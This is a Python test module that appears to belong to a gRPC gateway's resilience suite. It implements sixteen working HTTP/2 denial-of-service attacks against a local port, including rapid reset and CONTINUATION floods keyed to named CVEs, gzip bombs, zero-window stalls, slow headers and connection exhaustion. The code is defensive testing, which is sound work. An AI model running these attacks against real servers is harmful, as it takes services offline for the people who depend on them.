"""What strangers do to the gateway: `python -m tests.assurance.strangers.attacks NAME PORT SECONDS`.

In a process of its own, so that the honest client beside it is not slowed by the attack's own work. A token may stand
in the environment as TOKEN, for attacks of somebody who has one. Prints what was done.
"""

import asyncio
import gzip
import os
import struct
import sys
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Coroutine
from contextlib import asynccontextmanager, suppress
from typing import Any

from tests.assurance.strangers.frames import (
    ACK,
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW,
    PING,
    RST_STREAM,
    Connection,
    data,
    frame,
    message,
    request,
    settings,
)

SUMMARY = "/kjernejournal.summary.v1.SummaryService/GetPatientSummary"
UPLOAD = "/kjernejournal.documents.v1.DocumentsService/UploadDocument"
HEALTH = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
BOMB = gzip.compress(bytes(30 * 1024 * 1024), 9)
"""30 kB that are 30 MiB."""
CONNECTIONS = int(os.environ.get("CONNECTIONS", "10000"))

CALLS = 10
"""Connections with a hundred calls each, begun at once. Five times as many hold an honest call up for some seconds:
gRPC takes calls in one by one. k8s/README.md says what keeps such a burst out."""

Attack = Callable[[int, float], Coroutine[Any, Any, str]]


async def rapid_reset(port: int, ends: float) -> str:
    """Opens streams and resets them at once (CVE-2023-44487)."""
    block, done = request(SUMMARY, token()), 0
    async for connection in again(port, ends):
        while time.monotonic() < ends:
            frames = b""
            for _ in range(100):
                stream = connection.stream()
                frames += frame(HEADERS, END_HEADERS, stream, block)
                frames += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            if not await connection.send(frames):
                break
            done += 100
    return f"{done} streams"


async def made_you_reset(port: int, ends: float) -> str:
    """Opens streams and has the server reset them, by a frame that is wrong (CVE-2025-8671)."""
    block, done = request(SUMMARY, token()), 0
    async for connection in again(port, ends):
        while time.monotonic() < ends:
            frames = b""
            for _ in range(100):
                stream = connection.stream()
                frames += frame(HEADERS, END_HEADERS, stream, block) + frame(8, 0, stream, struct.pack(">I", 0))
            if not await connection.send(frames):
                break
            done += 100
    return f"{done} streams"


async def ping_flood(port: int, ends: float) -> str:
    """Sends PINGs, and reads no answers faster than they come."""
    done = 0
    async for connection in again(port, ends):
        while time.monotonic() < ends and await connection.send(frame(PING, 0, 0, bytes(8)) * 500):
            done += 500
    return f"{done} pings"


async def settings_flood(port: int, ends: float) -> str:
    """Sends SETTINGS, each of which wants an acknowledgement."""
    done = 0
    async for connection in again(port, ends):
        while time.monotonic() < ends and await connection.send(settings((INITIAL_WINDOW, 65535)) * 500):
            done += 500
    return f"{done} settings"


async def window_zero(port: int, ends: float) -> str:
    """Asks on every stream of many connections, and gives no window for the answers."""
    return await _stalled(port, ends, settings((INITIAL_WINDOW, 0)), HEALTH, message(b""), END_STREAM)


async def watchers(port: int, ends: float) -> str:
    """Watches health on every stream of many connections, without a window for the answers."""
    return await _stalled(port, ends, settings((INITIAL_WINDOW, 0)), WATCH, message(b""), END_STREAM)


async def stalled_requests(port: int, ends: float) -> str:
    """Begins requests on every stream of many connections, and sends no message."""
    return await _stalled(port, ends, settings(), SUMMARY, b"", 0)


async def stalled_uploads(port: int, ends: float) -> str:
    """Begins uploads on every stream of many connections, each with a part of a large message."""
    part = struct.pack(">BI", 0, 30 * 1024 * 1024) + bytes(600)
    return await _stalled(port, ends, settings(), UPLOAD, part, 0)


async def stalled_health(port: int, ends: float) -> str:
    """Begins health checks with a large message that does not come, on every stream of many connections."""
    part = struct.pack(">BI", 0, 30 * 1024 * 1024) + bytes(600)
    return await _stalled(port, ends, settings(), HEALTH, part, 0)


async def slow_headers(port: int, ends: float) -> str:
    """Begins header blocks and goes on with a byte at a time, on many connections."""
    opened = await _connections(200, lambda: Connection.open(port))
    for connection in opened:
        await connection.send(frame(HEADERS, 0, 1, request(SUMMARY)[:20]))
    rounds = 0
    while time.monotonic() < ends:
        for connection in opened:
            await connection.send(frame(CONTINUATION, 0, 1, b""))
        rounds += 1
        await asyncio.sleep(0.2)
    return f"{len(opened)} connections, {rounds} rounds, {sum(each.closed.done() for each in opened)} closed"


async def continuation_flood(port: int, ends: float) -> str:
    """Sends header blocks that do not end (CVE-2024-27316)."""
    piece, done = b"\x00\x01a" + b"\x7f\x80\x7d" + bytes(16127), 0
    async for connection in again(port, ends):
        if not await connection.send(frame(HEADERS, 0, connection.stream(), request(SUMMARY))):
            continue
        while time.monotonic() < ends and await connection.send(frame(CONTINUATION, 0, 1, piece)):
            done += 1
    return f"{done} frames of 16 kB"


async def gzip_bombs(port: int, ends: float) -> str:
    """Sends 30 kB that inflate to 30 MiB, on calls of every shape and on health, 100 at a time."""
    done = 0
    async for connection in again(port, ends):
        while time.monotonic() < ends:
            frames = b""
            for path in (SUMMARY, UPLOAD, HEALTH, REFLECTION):
                stream = connection.stream()
                block = request(path, (("grpc-encoding", "gzip"), *token()))
                frames += frame(HEADERS, END_HEADERS, stream, block)
                frames += data(stream, message(BOMB, compressed=True))
            if not await connection.send(frames):
                break
            await asyncio.sleep(0.002)
            done += 4
    return f"{done} bombs"


async def large_messages(port: int, ends: float) -> str:
    """Sends messages of 30 MiB without a token, to every kind of rpc, on many connections at once."""

    async def one(path: str) -> int:
        sent = 0
        async for connection in again(port, ends):
            stream = connection.stream()
            await connection.send(frame(HEADERS, END_HEADERS, stream, request(path)))
            await connection.send(struct.pack(">I", 5)[1:] + bytes([0, 0]) + struct.pack(">I", stream) + message(b""))
            content = message(bytes(30 * 1024 * 1024))
            for at in range(0, len(content), 16384):
                if time.monotonic() > ends or not await connection.send(frame(0, 0, stream, content[at : at + 16384])):
                    break
                sent += 1
        return sent

    paths = [SUMMARY, UPLOAD, HEALTH, REFLECTION] * 5
    return f"{sum(await asyncio.gather(*map(one, paths)))} frames of 16 kB"


async def idle_connections(port: int, ends: float) -> str:
    """Opens connections that ask for nothing; half of them do not even say that they speak HTTP/2."""

    async def one(number: int) -> Connection | None:
        with suppress(OSError, TimeoutError):
            async with asyncio.timeout(5):
                if number % 2:
                    return await Connection.open(port)
                return Connection(*await asyncio.open_connection("127.0.0.1", port))
        return None

    opened: list[Connection | None] = []
    for start in range(0, CONNECTIONS, 100):
        if time.monotonic() > ends:
            break
        opened += await asyncio.gather(*(one(start + number) for number in range(100)))
    await asyncio.sleep(max(0.0, ends - time.monotonic()))
    held = [each for each in opened if each is not None]
    return f"{len(held)} connections, {sum(each.closed.done() for each in held)} closed"


async def bad_beginnings(port: int, ends: float) -> str:
    """Sends what is no HTTP/2."""
    done = 0
    while time.monotonic() < ends:
        for first in (b"GET / HTTP/1.1\r\n\r\n", os.urandom(64), b"\x16\x03\x01\x02\x00\x01", b""):
            with suppress(OSError):
                _, writer = await asyncio.open_connection("127.0.0.1", port)
                writer.write(first)
                await writer.drain()
                await asyncio.sleep(0.002)
                writer.transport.abort()
                done += 1
    return f"{done} connections"


async def strangers_calls(port: int, ends: float) -> str:
    """Calls without a token as fast as it goes, whole requests on many streams."""
    block, done = request(SUMMARY), 0
    async for connection in again(port, ends):
        while time.monotonic() < ends:
            frames = b""
            for _ in range(20):
                stream = connection.stream()
                frames += frame(HEADERS, END_HEADERS, stream, block) + data(stream, message(b""))
            if not await connection.send(frames):
                break
            await asyncio.sleep(0.02)
            done += 20
    return f"{done} calls"


ATTACKS: dict[str, Attack] = {
    each.__name__: each
    for each in (
        rapid_reset,
        made_you_reset,
        ping_flood,
        settings_flood,
        window_zero,
        watchers,
        stalled_requests,
        stalled_uploads,
        stalled_health,
        slow_headers,
        continuation_flood,
        gzip_bombs,
        large_messages,
        idle_connections,
        bad_beginnings,
        strangers_calls,
    )
}


def token() -> tuple[tuple[str, str], ...]:
    """Returns the metadata of somebody with a token, if there is one."""
    found = os.environ.get("TOKEN")
    return (("authorization", f"Bearer {found}"),) if found else ()


async def again(port: int, ends: float) -> AsyncIterator[Connection]:
    """Yields connections, a new one when the one before was closed or used up, until the time is over."""
    while time.monotonic() < ends:
        try:
            connection = await Connection.open(port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        yield connection
        connection.close()
        await asyncio.sleep(0.01)


async def _stalled(port: int, ends: float, first: bytes, path: str, content: bytes, flags: int) -> str:
    block = request(path, token())
    async with _held(port, CALLS, first) as opened:
        streams = 0
        for connection in opened:
            frames = b""
            for _ in range(100):
                stream = connection.stream()
                frames += frame(HEADERS, END_HEADERS, stream, block)
                if content:
                    frames += data(stream, content, flags)
            streams += 100 if await connection.send(frames) else 0
        while time.monotonic() < ends:
            for connection in opened:
                await connection.send(frame(PING, ACK, 0, bytes(8)))
            await asyncio.sleep(1)
        return f"{streams} streams"


@asynccontextmanager
async def _held(port: int, count: int, first: bytes) -> AsyncIterator[list[Connection]]:
    opened = await _connections(count, lambda: Connection.open(port, first))
    yield opened
    for each in opened:
        each.close()


async def _connections(count: int, one: Callable[[], Awaitable[Connection]]) -> list[Connection]:
    opened = []
    for _ in range(count):
        with suppress(OSError):
            opened.append(await one())
    return opened


async def attack(name: str, port: int, seconds: float) -> str:
    """Attacks for so long; a server that takes nothing more of us is left."""
    try:
        async with asyncio.timeout(seconds + 5):
            return await ATTACKS[name](port, time.monotonic() + seconds)
    except TimeoutError:
        return "the server took no more"


if __name__ == "__main__":
    print(asyncio.run(attack(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))))
